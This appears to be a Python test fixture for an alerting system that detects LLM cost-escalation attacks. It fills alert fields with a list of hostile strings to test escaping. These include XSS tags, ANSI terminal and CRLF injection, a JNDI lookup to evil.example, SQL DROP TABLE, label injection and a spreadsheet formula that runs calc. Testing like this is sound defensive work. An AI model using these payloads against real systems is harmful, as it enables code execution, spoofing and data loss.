"""A maker of alerts, and what attackers put into names."""

from datetime import UTC, datetime, timedelta
from typing import Any

from detectors.kinds import fingerprint
from schemas.alerts import Alert

START = datetime(2026, 3, 1, 12, tzinfo=UTC)

PAYLOADS = (
    "<!channel> pay now",
    "<https://evil.example|click>",
    "@here @channel",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\x1b[2J\x1b[31mALL CLEAR\x1b[0m",
    "\x9b31m",
    "acme\nresolved critical forged_line",
    "acme\r\nX-Injected: 1",
    "\u202egnp.exe\u200b",
    "*bold* _it_ `code` ~no~ [text](https://evil.example)",
    "[bold red]markup[/bold red]",
    "{{ .CommonAnnotations }} ${jndi:ldap://evil.example}",
    '"} or {alertname="x',
    "'; DROP TABLE alerts; --",
    "=cmd|' /C calc'!A0",
    "\x00\x07\x7f",
    "a\u0301\u0336",
    "😀",
)


def alert(name: str = "t1", status: str = "firing", sequence: int = 1, **fields: Any) -> Alert:
    labels = fields.pop("labels", {"alertname": "known_trigger", "category": "cost_escalation", "trigger_id": name})
    made: dict[str, Any] = {
        "alert_id": f"id of {name}",
        "fingerprint": fingerprint(labels),
        "alertname": "known_trigger",
        "category": "cost_escalation",
        "severity": "critical",
        "status": status,
        "labels": labels,
        "starts_at": START,
        "last_seen": START + timedelta(minutes=1),
        "ends_at": START + timedelta(minutes=16) if status == "resolved" else None,
        "time": START + timedelta(minutes=16),
        "count": 3,
        "principals": 2,
        "tenants": 1,
        "sequence": sequence,
        "detector": "triggers",
        "score": 0.9,
        "threshold": 0.5,
        "est_cost_usd": 1.25,
        "first_request_id": "r1",
        "summary": "A catalogued trigger is in use against the router",
        "owasp": ["LLM10:2025"],
    }
    return Alert(**{**made, **fields})


def hostile(payload: str) -> Alert:
    """An alert whose every field that comes from events holds the payload."""
    return alert(
        labels={
            "alertname": "denial_of_wallet",
            "category": "cost_escalation",
            "tenant_id": payload,
            "principal_hash": payload,
            "router_name": payload,
        },
        tenant_id=payload,
        principal_hash=payload,
        router_name=payload,
        window=payload,
        trigger_id=payload,
        first_request_id=payload,
        request_ids=[payload],
        finding_ids=[payload],
    )
